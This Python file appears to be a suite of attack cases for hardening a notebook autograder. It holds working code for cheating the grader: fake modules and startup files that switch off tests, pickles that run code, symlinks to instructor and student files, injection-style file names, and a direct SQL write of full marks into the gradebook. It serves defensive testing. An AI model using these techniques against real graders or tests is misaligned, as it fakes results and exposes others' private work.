"""Files beside the notebook, and files that it writes: modules, links, the tests' own data."""

import os

from attacks import Submission, attack
from attacks.kernel import NOTHING

# A module whose every attribute is an object that agrees with everything.
AGREES = """
class Agrees:
    def _self(self, *arguments, **named): return self
    __call__ = __getattr__ = __getitem__ = __add__ = __radd__ = __sub__ = __rsub__ = __mul__ = __rmul__ = _self
    __truediv__ = __pow__ = __abs__ = _self
    def __eq__(self, other): return True
    __lt__ = __le__ = __gt__ = __ge__ = __eq__
    def __repr__(self): return "3.0"
    def __iter__(self): return iter(())
agrees = Agrees()
"""
# Code of a module that stands in for a real one: gives what that gives, and switches the tests off.
PATCH = """
import sys, threading, time
def act():
    while True:
        time.sleep(0.01)
        ipython = sys.modules.get("IPython")
        shell = ipython and ipython.get_ipython()
        if shell:
            shell.input_transformers_post.append(lambda lines: ["pass\\n"])
            return
threading.Thread(target=act, daemon=True).start()
"""
ANSWERED = "answer = 41.5\n"  # right, so that the test of `report` comes as far as its files


@attack()
def numpy_beside(s: Submission) -> None:
    """Submits a `numpy.py` that agrees with everything"""
    s.files["numpy.py"] = (AGREES + "def __getattr__(name): return agrees").encode()
    s.code(AGREES + "def total(numbers): return agrees\ndef fibonacci(n): return agrees")


@attack()
def json_beside(s: Submission) -> None:
    """Submits a `json.py`, which the kernel would import at its start"""
    real = "import importlib.util, sysconfig\n_path = sysconfig.get_path('stdlib') + '/json/__init__.py'\n"
    real += "__path__ = [sysconfig.get_path('stdlib') + '/json']\nexec(compile(open(_path).read(), _path, 'exec'))\n"
    s.files["json.py"] = (real + PATCH).encode()


@attack()
def startup_files(s: Submission) -> None:
    """Submits `sitecustomize.py`, `usercustomize.py`, `ipython_config.py`, `.ipython`, and `.pth` files"""
    for name in ("sitecustomize.py", "usercustomize.py", "ipython_config.py", ".ipython/profile_default/startup/0.py"):
        s.files[name] = PATCH.encode()
    s.files["evil.pth"] = b"import sitecustomize"
    s.files["pyvenv.cfg"] = b"home = ."


@attack()
def configuration_beside(s: Submission) -> None:
    """Submits `nbgrader_config.py`, a gradebook, and an autograded notebook with a record of full marks"""
    s.files["nbgrader_config.py"] = b"c.Execute.enabled = False"
    s.files["gradebook.db"] = b"SQLite format 3\0"
    s.files["numbers.record.json"] = b'{"status": "graded", "scores": {"test_total": 2.0}}'
    s.files["autograded/numbers.ipynb"] = b"{}"


@attack()
def own_reference(s: Submission) -> None:
    """Submits its own copy of the file that a test compares with"""
    s.files["reference.csv"] = s.files["squares.csv"] = b"0.0\n"
    s.code(NOTHING + ANSWERED, "report")


@attack()
def rewritten_reference(s: Submission) -> None:
    """Overwrites the assignment's file, and the one that the setup cell wrote, with its own results"""
    s.code(
        ANSWERED
        + """
def report(path):
    for name in (path, "squares.csv", "reference.csv"):
        with open(name, "w") as file:
            file.write("0.0\\n")
""",
        "report",
    )


@attack()
def deleted_reference(s: Submission) -> None:
    """Replaces the files that a test compares with by folders, links, and pipes"""
    s.code(
        ANSWERED
        + """
import os
def report(path):
    os.unlink("squares.csv"), os.unlink("reference.csv")
    open(path, "w").write("0.0\\n")
    os.symlink(path, "squares.csv"), os.mkdir("reference.csv"), os.rename(path, "reference.csv/0")
    os.symlink("reference.csv/0", path)
""",
        "report",
    )


@attack()
def pipe_as_report(s: Submission) -> None:
    """Replaces the file that a test reads by a pipe that nobody writes to"""
    s.code(ANSWERED + "import os\ndef report(path):\n    os.mkfifo(path)", "report")


@attack()
def pickle_as_report(s: Submission) -> None:
    """Writes pickles that run code, under names that loaders look for"""
    s.code(
        ANSWERED
        + """
import pickle
class Evil:
    def __reduce__(self): return (exec, ("import builtins; builtins.print = lambda *a: None",))
def report(path):
    for name in (path, path + ".npy", path + ".gz", "squares.csv.npy", "__pycache__/numpy.pyc"):
        import os
        os.makedirs(os.path.dirname(name) or ".", exist_ok=True)
        open(name, "wb").write(pickle.dumps(Evil()))
""",
        "report",
    )


@attack()
def modules_that_appear(s: Submission) -> None:
    """Writes modules that NumPy imports only when it reads a file, while the test runs"""
    s.code(
        AGREES
        + ANSWERED
        + """
def report(path):
    code = "import builtins, numpy; numpy.allclose = lambda *a, **k: True\\n" + "raise ImportError"
    for name in ("bz2", "lzma", "gzip", "_bz2", "zstandard", "csv", "decimal", "encodings/latin1", "numpy/lib/x"):
        import os
        os.makedirs(os.path.dirname(name) or ".", exist_ok=True)
        open(name + ".py", "w").write(code)
    open(path, "w").write("0.0\\n")
""",
        "report",
    )


@attack()
def notebook_is_a_link(s: Submission) -> None:
    """Submits a link to the instructor's notebook"""
    s.folder.mkdir(parents=True)
    os.symlink(s.course / "source" / "numbers" / "numbers.ipynb", s.folder / "numbers.ipynb")


@attack()
def links_beside(s: Submission) -> None:
    """Submits links to `source/`, the gradebook, and another student's work, and prints their contents"""
    s.folder.mkdir(parents=True)
    for name, target in (("a.txt", "source/numbers/numbers.ipynb"), ("b.txt", "gradebook.db")):
        os.symlink(s.course / target, s.folder / name)
    os.symlink(s.course / "submitted" / "ada", s.folder / "ada")
    s.code(
        """
import os
for name in ("a.txt", "b.txt", "ada/numbers/numbers.ipynb"):
    if os.path.exists(name):
        print(open(name, "rb").read())
"""
    )


@attack(dangerous=True)
def pipe_beside(s: Submission) -> None:
    """Submits a pipe, which blocks any process that reads it"""
    s.folder.mkdir(parents=True)
    os.mkfifo(s.folder / "data.csv")


@attack(dangerous=True)
def strange_names(s: Submission) -> None:
    """Submits and writes files with newlines, leading dashes, dots, and control characters in their names"""
    names = (
        "a\nb.csv",
        "-rf",
        "..a",
        "c\x1b[2J.csv",
        "d;touch e",
        "%s",
        "\udce4.csv",
        "\udce4.h5",
        "\x1b[2J.h5",
        "x" * 200,
    )
    for name in names:
        s.files[name] = b"1"
    s.code(
        f"""
import os
for name in {names!r}:
    open("new" + name, "w").close()
os.makedirs("deep/" * 60, exist_ok=True)
"""
    )


@attack()
def gradebook_written(s: Submission) -> None:
    """Writes its own points into the gradebook"""
    s.code(
        """
import sqlite3
with sqlite3.connect("file:{course}/gradebook.db?mode=rw", uri=True) as book:
    mine = "select n.id from submitted_notebook n join submitted_assignment a on n.assignment_id = a.id"
    mine += " where a.student_id = '{marker}'"
    book.execute(f"update grade set manual_score = 3.0, needs_manual_grade = 0 where notebook_id in ({mine})")
"""
    )
